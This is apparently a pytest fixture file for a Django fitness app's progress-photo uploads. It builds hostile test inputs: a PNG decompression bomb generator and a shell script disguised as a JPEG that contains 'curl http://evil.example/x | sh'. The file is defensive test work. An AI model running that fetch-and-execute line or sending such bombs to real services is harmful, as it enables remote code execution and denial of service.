"""Pictures as phones (and attackers) send them, a small gym, and photos stored for real."""

import io
import struct
import zlib
from datetime import date, timedelta

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from PIL import Image, PngImagePlugin

from fitnesscrm.progress.models import ProgressPhoto
from fitnesscrm.progress.storage import FOLDER, photo_storage
from tests.factories import build_gym, give_health_consent

MB = 1024 * 1024
GPS_IFD = 0x8825
MAKE = 0x010F
GPS_LATITUDE = 2


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    """Each test stores its photos in a folder of its own."""
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(media) -> list:
    """Every file under MEDIA_ROOT (photos and anything else)."""
    return sorted(path for path in media.rglob("*") if path.is_file()) if media.exists() else []


@pytest.fixture
def gym(trainer, client_user, outsider):
    return build_gym(trainer=trainer, client_user=client_user, outsider=outsider)


# Who asks, in the order of the tables of expected answers.
ROLES = [
    "owner",
    "manager",
    "trainer",
    "other_trainer",
    "front_desk",
    "client",
    "outsider",
    "anonymous",
]


@pytest.fixture
def people(owner, manager, trainer, front_desk, client_user, outsider, gym):
    return {
        "owner": owner,
        "manager": manager,
        "trainer": trainer,
        "other_trainer": gym.other_coach.user,
        "front_desk": front_desk,
        "client": client_user,
        "outsider": outsider,
        "anonymous": None,
    }


@pytest.fixture
def consented(gym):
    """The member (the client_user's record) has agreed to health data being recorded."""
    give_health_consent(gym.member)
    return gym.member


def jpeg_bytes(size=(64, 48), colour=(200, 30, 30), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="JPEG", **save)
    return out.getvalue()


def jpeg_with_location(size=(64, 48), name="IMG_0001.jpg") -> SimpleUploadedFile:
    """A JPEG as a phone makes it: camera make and a GPS position in its EXIF."""
    exif = Image.Exif()
    exif[MAKE] = "PhoneCam"
    exif.get_ifd(GPS_IFD)[GPS_LATITUDE] = (51.0, 30.0, 0.0)
    data = jpeg_bytes(size, exif=exif.tobytes())
    assert b"PhoneCam" in data
    with Image.open(io.BytesIO(data)) as check:
        assert check.getexif().get_ifd(GPS_IFD)
    return SimpleUploadedFile(name, data, content_type="image/jpeg")


def png_with_text() -> SimpleUploadedFile:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Taken at 12 Home Street")
    info.add_itxt("Description", "GPS 51.5N 0.1W")
    out = io.BytesIO()
    Image.new("RGB", (40, 60), (10, 90, 200)).save(out, format="PNG", pnginfo=info)
    data = out.getvalue()
    assert b"Home Street" in data
    return SimpleUploadedFile("front.png", data, content_type="image/png")


def pdf_named_jpg() -> SimpleUploadedFile:
    data = (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )
    return SimpleUploadedFile("front.jpg", data, content_type="image/jpeg")


def script_named_jpg() -> SimpleUploadedFile:
    data = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
    return SimpleUploadedFile("front.jpg", data, content_type="image/jpeg")


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 20000, height: int = 20000) -> SimpleUploadedFile:
    """A small PNG (1 bit a pixel, all black) that would take width x height bytes to decode."""
    row = b"\x00" + bytes((width + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", data)
        + _chunk(b"IEND", b"")
    )
    assert len(body) < 200_000
    return SimpleUploadedFile("front.png", body, content_type="image/png")


def jpeg_of_exactly(size: int) -> SimpleUploadedFile:
    """A real JPEG, padded after its end marker to exactly `size` bytes."""
    data = jpeg_bytes((32, 32))
    return SimpleUploadedFile("big.jpg", data + bytes(size - len(data)), content_type="image/jpeg")


def add_photo(
    client, *, pose="front", taken_on: date | None = None, colour=(20, 120, 60), notes=""
):
    """A stored photo of `client`, written directly (as the service would leave it)."""
    storage = photo_storage()
    name = storage.save(f"{FOLDER}/test.jpg", ContentFile(jpeg_bytes((30, 40), colour)))
    return ProgressPhoto.objects.create(
        client=client,
        pose=pose,
        taken_on=taken_on or timezone.localdate(),
        image=name,
        width=30,
        height=40,
        size_bytes=storage.size(name),
        notes=notes,
    )


def days_ago(days: int) -> date:
    return timezone.localdate() - timedelta(days=days)
